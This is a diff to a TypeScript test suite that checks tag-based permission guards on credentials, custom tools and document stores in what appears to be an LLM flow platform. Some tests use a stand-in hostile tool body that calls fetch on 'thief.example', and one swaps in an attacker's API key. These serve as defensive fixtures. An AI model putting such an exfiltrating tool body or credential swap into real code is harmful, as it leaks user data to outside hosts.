@@ -13,6 +13,8 @@ const EVERYTHING_ELSE = [
   'variables:update',
   'tools:create',
   'tools:update',
+  'documentStores:view',
+  'documentStores:update',
 ]
 
 describe.each(databaseKinds)('what a flow with tags of documents works with, on %s', (kind) => {
@@ -58,6 +60,50 @@ describe.each(databaseKinds)('what a flow with tags of documents works with, on 
     await expectGuarded({ values, path: `/credentials/${id}`, body: { name: 'Key of mine' } })
   })
 
+  test.each([
+    ['the embeddings of its store', false],
+    ['its own loader', true],
+  ])(
+    'a credential that %s uses is changed only by those who may read a document with tags',
+    async (_what, isOfLoader) => {
+      const made = { name: 'Key', credentialName: 'openAIApi', plainDataObj: { openAIApiKey: 'sk-one' } }
+      const { id: credential } = await admin.expect<{ id: string }>(200, 'POST', '/credentials', made)
+      const store = await admin.expect<{ id: string }>(200, 'POST', '/document-store/store', {
+        name: 'Papers',
+      })
+      const storeId = store.id
+      const save = (loaderConfig: object) =>
+        admin.expect<{ id: string }>(200, 'POST', '/document-store/loader/save', {
+          storeId,
+          loaderId: 'plainText',
+          loaderConfig,
+        })
+      const loader = await save({
+        text: 'Salaries',
+        ...(isOfLoader && { FLOWISE_CREDENTIAL_ID: credential }),
+      })
+      await save({ text: 'Handbook' })
+      if (!isOfLoader)
+        await admin.expect(200, 'POST', '/document-store/vectorstore/save', {
+          storeId,
+          embeddingName: 'openAIEmbeddings',
+          embeddingConfig: { modelName: 'text-embedding-3-small', FLOWISE_CREDENTIAL_ID: credential },
+          vectorStoreName: 'memoryVectorStore',
+          vectorStoreConfig: {},
+        })
+      const path = `/credentials/${credential}`
+      const body = { plainDataObj: { openAIApiKey: 'sk-of-the-thief' } }
+      await other.expect(200, 'PUT', path, body)
+      await admin.expect(200, 'PUT', `/document-store/loader/${storeId}/${loader.id}/tags`, { tags: ['hr'] })
+      const refused = await other.call<{ message: string }>('PUT', path, body)
+      expect([refused.status, refused.body.message]).toEqual([
+        403,
+        expect.stringContaining('whose tags you do'),
+      ])
+      await carrier.expect(200, 'PUT', path, body)
+    },
+  )
+
   test('is a variable that others cannot change, nor make when it is gone, nor name so', async () => {
     const { id } = await admin.expect<{ id: string }>(200, 'POST', '/variables', {
       name: 'place',
@@ -77,6 +123,30 @@ describe.each(databaseKinds)('what a flow with tags of documents works with, on 
     const values = { agentTools: [{ agentSelectedToolConfig: { selectedTool: id } }] }
     const body = { func: 'return fetch("https://thief.example")' }
     await expectGuarded({ values, path: `/tools/${id}`, body })
+  })
+
+  test('is a custom tool in rows that are kept as text, too', async () => {
+    const tool = { name: 'whisper', description: 'Whispers.', schema: '[]', func: 'return "a"' }
+    const { id } = await admin.expect<{ id: string }>(200, 'POST', '/tools', tool)
+    const rows = [{ agentSelectedToolConfig: JSON.stringify({ selectedTool: id }) }]
+    const body = { func: 'return fetch("https://thief.example")' }
+    await expectGuarded({ values: { agentTools: JSON.stringify(rows) }, path: `/tools/${id}`, body })
+  })
+
+  test('is a document store whose settings others cannot change: questions are sent where these say', async () => {
+    const path = '/document-store/store'
+    const { id } = await admin.expect<{ id: string }>(200, 'POST', path, { name: 'Open papers' })
+    const values = { agentKnowledgeDocumentStores: [{ documentStore: `${id}:Open papers` }] }
+    const change = (caller: TestCaller, body: object) =>
+      caller.call<{ message: string }>('PUT', `${path}/${id}`, body)
+    const embeddingConfig = { name: 'demoEmbeddings', config: {} }
+    const flowId = await flowWith(values)
+    expect((await change(other, { embeddingConfig })).status).toBe(200)
+    await tag(flowId, ['hr'])
+    const refused = await change(other, { embeddingConfig: null })
+    expect([refused.status, refused.body.message]).toEqual([403, expect.stringContaining('the tags hr')])
+    expect((await change(other, { embeddingConfig, name: 'Renamed' })).status).toBe(200)
+    expect((await change(carrier, { embeddingConfig: null })).status).toBe(200)
   })
 
   test('is a listed MCP server that others cannot change', async () => {
